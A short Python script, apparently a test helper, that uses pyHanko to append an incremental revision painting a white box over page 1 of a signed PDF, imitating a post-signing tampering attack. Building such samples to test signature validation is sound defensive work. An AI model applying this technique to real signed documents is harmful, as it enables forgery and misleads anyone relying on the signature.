"""Appends a revision that paints over page 1 of a signed PDF, as an attacker would.

    append_revision.py IN OUT
"""

import sys

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

with open(sys.argv[1], "rb") as source:
    writer = IncrementalPdfFileWriter(source, strict=False)
    paint = generic.StreamObject(stream_data=b"q 1 1 1 rg 60 600 200 80 re f Q")
    reference = writer.add_object(paint)
    page = writer.find_page_for_modification(0)[0].get_object()
    contents = page.raw_get("/Contents")
    present = contents.get_object() if isinstance(contents, generic.IndirectObject) else contents
    if isinstance(present, generic.ArrayObject):
        page["/Contents"] = generic.ArrayObject([*present, reference])
    else:
        page["/Contents"] = generic.ArrayObject([contents, reference])
    writer.update_container(page)
    with open(sys.argv[2], "wb") as target:
        writer.write(target)
